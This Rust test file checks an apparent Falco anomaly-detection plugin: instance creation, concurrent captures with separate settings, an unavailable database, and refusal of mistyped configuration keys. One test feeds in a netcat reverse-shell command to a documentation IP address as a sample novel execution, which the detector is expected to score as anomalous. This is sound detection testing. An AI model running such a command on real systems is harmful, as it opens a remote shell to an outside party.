//! Instances come and go: dry runs, reloads, several at once, and what cannot be had.

use std::ffi::{CStr, CString};
use std::fs;
use std::path::Path;

use falco_plugin_runner::PluginRunner;

use crate::support::{ANOMALY, HOST, Host, config, exec};

fn learn(host: &mut Host) {
    for pid in 100..140 {
        host.event(exec(pid, 1, "/usr/sbin/nginx -g daemon").event());
    }
}

fn with(path: &Path, more: &str) -> CString {
    let json =
        format!(r#"{{"path": {path:?}, "feed": "falco", "learn_executions": 20, "learn_for": "0s"{more}}}"#);
    CString::new(json).expect("no NUL")
}

/// A directory that cannot be made: the baseline lives in memory alone.
fn nowhere(directory: &Path) -> std::path::PathBuf {
    let file = directory.join("file");
    fs::write(&file, "in the way").expect("written");
    file.join("database")
}

#[test]
fn making_an_instance_touches_nothing() {
    let directory = tempfile::tempdir().expect("a directory");
    let path = directory.path().join("database");
    for _ in 0..3 {
        let mut dry_run = PluginRunner::new();
        dry_run.register_plugin(&HOST, c"").expect("registered");
        dry_run.register_plugin(&ANOMALY, &config(&path, 20)).expect("registered");
    }
    assert!(!path.exists(), "the database begins with a capture");
    drop(Host::new(&config(&path, 20)));
    assert!(path.exists());
}

#[test]
fn without_a_capture_there_are_no_metrics_and_no_harm() {
    let mut dry_run = PluginRunner::new();
    dry_run.register_plugin(&ANOMALY, c"{}").expect("registered");
    drop(dry_run);
}

#[test]
fn while_one_capture_runs_another_one_does_not_change_its_settings() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut first = Host::new(&with(directory.path(), r#", "threshold": 0.42"#));
    let mut second = Host::new(&with(directory.path(), r#", "threshold": 0.77"#));
    for host in [&mut first, &mut second] {
        let event = host.event(exec(200, 1, "/usr/sbin/nginx -g daemon").event());
        assert_eq!(host.field(&event, "anomaly.threshold").as_deref(), Some("0.4200"));
    }
}

#[test]
fn without_a_database_everything_else_works() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(&nowhere(directory.path()), 20));
    learn(&mut host);
    let novel = host.score(&exec(200, 1, "/usr/bin/nc -e /bin/sh 203.0.113.7 4444")).expect("a score");
    assert!(novel.as_str() >= "0.8500", "{novel}");
}

#[test]
fn a_wrong_configuration_is_refused_with_the_key_that_was_meant() {
    let refusal = |config: &CStr| {
        let mut runner = PluginRunner::new();
        runner.register_plugin(&ANOMALY, config).expect_err("refused").to_string()
    };
    let error = refusal(cr#"{"treshold": 0.9}"#);
    assert!(error.contains(r#"did you mean "threshold"?"#), "{error}");
    let error = refusal(cr#"{"threshold": 85}"#);
    assert!(error.contains("threshold is 85"), "{error}");
}
